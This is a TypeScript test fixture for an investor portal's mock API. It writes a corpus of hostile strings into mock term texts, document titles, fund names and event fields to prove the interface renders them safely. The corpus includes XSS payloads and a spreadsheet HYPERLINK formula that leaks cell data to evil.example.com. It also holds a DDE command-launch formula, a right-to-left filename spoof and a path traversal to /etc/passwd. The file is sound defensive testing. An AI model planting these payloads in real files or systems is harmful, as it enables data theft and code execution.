/**
 * Hostile input: strings a careless portal would execute, mis-file or break its layout on. With the corpus on
 * (`POST {api}/__mock/hostile`), the provider writes it into term texts, document titles, fund names, account
 * group names and event titles and descriptions, so tests can prove nothing runs and nothing breaks.
 */
export const hostileCorpus: readonly string[] = [
  '<script>window.__pwned = "script"</script>Quarterly Report',
  '<img src=x onerror="window.__pwned = \'img\'">Capital Call Notice',
  '<a href="javascript:window.__pwned=\'link\'">Click for statement</a>',
  '<svg onload="window.__pwned = \'svg\'"><script>window.__pwned = "svg-script"</script></svg>Tax Letter',
  '=HYPERLINK("http://evil.example.com/?leak="&A1,"Open statement")',
  "+SUM(1+1)*cmd|' /C calc'!A0",
  '@SUM(1,1) Distribution Notice',
  'Invoice \u202Efdp.exe\u202C Q3',
  `Annual ${'Report '.repeat(1430)}End`,
  'Fund 💼📈 Capital 🚀 Letter',
  '../../etc/passwd Statement \\windows\\system32',
  '"quoted" & <angled> \'single\' Report',
]

/** The corpus string for a row position, cycling through the corpus. */
export const hostileText = (index: number): string => hostileCorpus[index % hostileCorpus.length] ?? ''
const at = hostileText

type Json = Record<string, unknown>
const isObject = (value: unknown): value is Json =>
  typeof value === 'object' && value !== null && !Array.isArray(value)

const rewrite: Array<{ path: RegExp; apply: (body: unknown) => unknown }> = [
  {
    path: /\/entitlements\/v1\/user\/Terms$/i,
    apply: (body) =>
      Array.isArray(body)
        ? body.map((term: Json, i) => ({
            ...term,
            name: at(i),
            text: `<p>${hostileCorpus.join('</p><p>')}</p>`,
          }))
        : body,
  },
  {
    path: /\/documents\/v1\/Users\/documents\/search$/i,
    apply: (body) =>
      isObject(body) && Array.isArray(body.results)
        ? { ...body, results: body.results.map((doc: Json, i: number) => ({ ...doc, title: at(i) })) }
        : body,
  },
  {
    path: /\/entitlements\/v1\/user\/EntitledEntities$/i,
    apply: (body) =>
      Array.isArray(body) ? body.map((fund: Json, i) => ({ ...fund, entityName: at(i), name: at(i) })) : body,
  },
  {
    path: /\/entitlements\/v1\/user\/InvestorAccountGroups$/i,
    apply: (body) =>
      Array.isArray(body) ? body.map((group: Json, i) => ({ ...group, groupName: at(i + 3) })) : body,
  },
  {
    path: /\/cvent\/api\/Events$/i,
    apply: (body) =>
      Array.isArray(body)
        ? body.map((event: Json, i) => ({ ...event, title: at(i), description: at(i + 1) }))
        : body,
  },
]

/** The answer with the corpus written in, for the calls that carry names and texts; others unchanged. */
export async function withHostileCorpus(path: string, response: Response): Promise<Response> {
  const rule = rewrite.find((candidate) => candidate.path.test(path))
  if (!rule || !response.ok || !(response.headers.get('content-type') ?? '').includes('json')) return response
  const body = rule.apply(await response.json())
  const headers = new Headers(response.headers)
  headers.delete('content-length')
  return new Response(JSON.stringify(body), { status: response.status, headers })
}
